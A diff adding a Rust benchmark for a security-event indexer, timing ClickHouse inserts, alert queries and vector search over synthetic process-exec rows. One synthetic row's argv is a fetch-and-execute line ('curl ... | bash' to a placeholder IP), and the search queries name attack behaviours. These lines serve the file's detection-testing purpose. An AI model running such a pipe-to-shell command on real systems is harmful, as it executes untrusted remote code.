@@ -1,0 +1,237 @@
+//! Indexer benchmarks against the real ClickHouse of the local stack
+//! (`scripts/stack up --infra`) and a local LanceDB:
+//!
+//! 1. sustained insert rows/s of `security_events` rows (the sink's insert);
+//! 2. p50/p99 of a typical filtered query (an org's alerts of the last hour,
+//!    first page) over 10M rows;
+//! 3. p50/p99 of a search over 1M behaviour vectors (vector search alone,
+//!    and the whole Search: vectors, then the events from ClickHouse).
+//!
+//! ```text
+//! OUTLIER_BENCH_ROWS=10000000 OUTLIER_BENCH_VECTORS=1000000 \
+//!   cargo bench -p outlier-indexer --bench query
+//! ```
+//!
+//! Prints a Markdown table.
+
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use outlier_common::featurize::{DIM, Embedding, embed_text};
+use outlier_indexer::query;
+use outlier_indexer::row::EventRow;
+use outlier_indexer::schema;
+use outlier_indexer::search_index::{Entry, SearchIndex};
+use outlier_proto::{QueryEventsRequest, Verdict};
+
+fn env_usize(name: &str, default: usize) -> usize {
+    std::env::var(name)
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(default)
+}
+
+fn pct(mut d: Vec<Duration>) -> (f64, f64) {
+    d.sort();
+    let ms = |x: Duration| x.as_secs_f64() * 1e3;
+    (
+        ms(d[d.len() / 2]),
+        ms(d[(d.len() * 99 / 100).min(d.len() - 1)]),
+    )
+}
+
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+}
+
+fn unit(rng: &mut Rng) -> Embedding {
+    let mut v = [0f32; DIM];
+    for x in &mut v {
+        *x = (rng.next() % 2001) as f32 / 1000.0 - 1.0;
+    }
+    let n = v.iter().map(|a| a * a).sum::<f32>().sqrt();
+    v.iter_mut().for_each(|a| *a /= n);
+    v
+}
+
+const COMMANDS: [&[&str]; 6] = [
+    &["nginx: worker process"],
+    &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
+    &["pg_dump", "-Fc", "-f", "/backup/app.dump", "app"],
+    &["cargo", "build", "--release"],
+    &["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"],
+    &["python3", "/srv/app/manage.py", "migrate"],
+];
+
+fn row(i: u64, now_ns: u64, rng: &mut Rng) -> EventRow {
+    let org = format!("org-{}", i % 20);
+    let verdict = match rng.next() % 100 {
+        0 => "alert",
+        1..=4 => "warn",
+        _ => "ok",
+    };
+    let ts_ns = now_ns - (rng.next() % (6 * 3600)) * 1_000_000_000;
+    EventRow {
+        event_id: format!("bench-{i}"),
+        org,
+        workload: format!("w{}", rng.next() % 50),
+        host: format!("host-{}", rng.next() % 500),
+        kind: "exec".into(),
+        ts: (ts_ns / 1_000_000_000) as u32,
+        ts_ns,
+        pid: (rng.next() % 60000) as u32,
+        ppid: 1,
+        uid: 33,
+        comm: "bash".into(),
+        parent_comm: "sshd".into(),
+        exe: "/usr/bin/bash".into(),
+        argv: COMMANDS[(rng.next() % 6) as usize]
+            .iter()
+            .map(|s| s.to_string())
+            .collect(),
+        anomaly_score: (rng.next() % 1000) as f32 / 1000.0,
+        verdict: verdict.into(),
+        explanation: "unlike all 120 known behaviours of w1 (nearest at cosine distance 0.31)"
+            .into(),
+        behaviour_key: rng.next() % 1_000_000,
+        ..EventRow::default()
+    }
+}
+
+#[tokio::main]
+async fn main() {
+    let rows_n = env_usize("OUTLIER_BENCH_ROWS", 10_000_000) as u64;
+    let vectors_n = env_usize("OUTLIER_BENCH_VECTORS", 1_000_000);
+    let url =
+        std::env::var("OUTLIER_TEST_CLICKHOUSE").unwrap_or_else(|_| "http://127.0.0.1:8123".into());
+    let db = "outlier_bench";
+    let admin = clickhouse::Client::default()
+        .with_url(&url)
+        .with_validation(false);
+    admin
+        .query(&format!("DROP DATABASE IF EXISTS {db}"))
+        .execute()
+        .await
+        .expect("clickhouse reachable (scripts/stack up --infra)");
+    schema::migrate(&admin, db, 30).await.unwrap();
+    let ch = clickhouse::Client::default()
+        .with_url(&url)
+        .with_database(db)
+        .with_validation(false);
+
+    println!("| measurement | result |");
+    println!("|---|---|");
+
+    // 1. Inserts, in the sink's batch size.
+    let now_ns = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap()
+        .as_nanos() as u64;
+    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
+    let batch = 50_000u64;
+    let t = Instant::now();
+    let mut i = 0;
+    while i < rows_n {
+        let rows: Vec<EventRow> = (i..(i + batch).min(rows_n))
+            .map(|j| row(j, now_ns, &mut rng))
+            .collect();
+        let mut insert = ch.insert::<EventRow>(schema::TABLE).await.unwrap();
+        for r in &rows {
+            insert.write(r).await.unwrap();
+        }
+        insert.end().await.unwrap();
+        i += batch;
+    }
+    let secs = t.elapsed().as_secs_f64();
+    println!(
+        "| insert, {rows_n} rows in batches of {batch} | {:.0} rows/s ({secs:.1} s) |",
+        rows_n as f64 / secs
+    );
+    let _ = admin
+        .query(&format!("OPTIMIZE TABLE {db}.{} FINAL", schema::TABLE))
+        .execute()
+        .await;
+
+    // 2. A typical filtered query: an org's alerts of the last hour.
+    let mut d = Vec::new();
+    for k in 0..100 {
+        let req = QueryEventsRequest {
+            org: format!("org-{}", k % 20),
+            since_ns: now_ns - 3_600_000_000_000,
+            verdicts: vec![Verdict::Alert as i32],
+            page_size: 50,
+            ..QueryEventsRequest::default()
+        };
+        let t = Instant::now();
+        let (rows, _) = query::query_events(&ch, &req).await.unwrap();
+        d.push(t.elapsed());
+        assert!(!rows.is_empty());
+    }
+    let (p50, p99) = pct(d);
+    println!(
+        "| QueryEvents (org, last hour, verdict=alert, page 50) over {rows_n} rows | p50 {p50:.1} ms, p99 {p99:.1} ms |"
+    );
+
+    // 3. Search over 1M behaviour vectors of one org.
+    let dir = tempfile::tempdir().unwrap();
+    let idx = SearchIndex::open(dir.path().to_str().unwrap())
+        .await
+        .unwrap();
+    let mut rng = Rng(42);
+    let t = Instant::now();
+    for chunk in (0..vectors_n).collect::<Vec<_>>().chunks(100_000) {
+        let entries: Vec<Entry> = chunk
+            .iter()
+            .map(|&k| Entry {
+                workload: format!("w{}", k % 50),
+                behaviour_key: k as u64,
+                vector: unit(&mut rng),
+                last_seen_ns: now_ns,
+            })
+            .collect();
+        idx.upsert("org-1", &entries).await.unwrap();
+    }
+    let load = t.elapsed().as_secs_f64();
+    let t = Instant::now();
+    idx.maintain(1).await.unwrap();
+    println!(
+        "| search index: {vectors_n} vectors written, IVF-PQ built | {load:.1} s + {:.1} s |",
+        t.elapsed().as_secs_f64()
+    );
+    let queries = [
+        "reverse shell bash outbound connection",
+        "download and execute",
+        "credential access shadow",
+        "persistence cron",
+        "privilege escalation sudo",
+    ];
+    let (mut dv, mut df) = (Vec::new(), Vec::new());
+    for k in 0..100 {
+        let q = embed_text(queries[k % queries.len()]);
+        let t = Instant::now();
+        let hits = idx.search("org-1", &q, &[], 20).await.unwrap();
+        dv.push(t.elapsed());
+        let keys: Vec<u64> = hits.iter().map(|h| h.behaviour_key).collect();
+        std::hint::black_box(
+            query::events_by_behaviour(&ch, "org-1", &keys, 0, 1)
+                .await
+                .unwrap(),
+        );
+        df.push(t.elapsed());
+    }
+    let (p50, p99) = pct(dv);
+    println!("| vector search, top 20 of {vectors_n} | p50 {p50:.1} ms, p99 {p99:.1} ms |");
+    let (p50, p99) = pct(df);
+    println!(
+        "| Search (vectors + events from ClickHouse, {rows_n} rows) | p50 {p50:.1} ms, p99 {p99:.1} ms |"
+    );
+    let _ = admin
+        .query(&format!("DROP DATABASE IF EXISTS {db}"))
+        .execute()
+        .await;
+}
